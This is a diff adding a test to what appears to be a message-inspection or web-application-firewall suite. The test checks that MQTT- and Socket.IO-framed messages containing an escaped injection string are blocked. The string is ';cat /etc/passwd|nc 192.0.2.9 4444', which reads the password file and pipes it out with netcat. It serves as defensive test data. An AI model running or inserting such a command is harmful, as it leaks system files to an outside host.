@@ -232,6 +232,25 @@ describe('inspected messages', () => {
     expect(heard.messages).toHaveLength(1);
   });
 
+  it('are judged by documents in them, as MQTT and Socket.IO 2 write them', async () => {
+    await start(limits(0, true), { ruleSet: compileManagedRules() });
+    const command = [...';cat /etc/passwd|nc 192.0.2.9 4444']
+      .map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`)
+      .join('');
+    const published = (text: string) =>
+      Buffer.from(`2${String.fromCharCode((7 + text.length) % 128)}\0\x03a/b\0\x01${text}`, 'latin1');
+    const { client, answers, closed } = await open();
+    client.send(published('{"name":"Ann & Bob"}'));
+    client.send(Buffer.from('\x04{"name":"Ann"}'));
+    await eventually(() => answers.length === 2);
+    client.send(published(`{"name":"${command}"}`));
+    expect(await closed()).toBe(1008);
+    const other = await open();
+    other.client.send(Buffer.from(`\x04{"name":"${command}"}`));
+    expect(await other.closed()).toBe(1008);
+    expect(heard.messages).toHaveLength(2);
+  });
+
   it('pass in log-only mode, with a remark', async () => {
     await start((config) => {
       limits(0, true)(config);
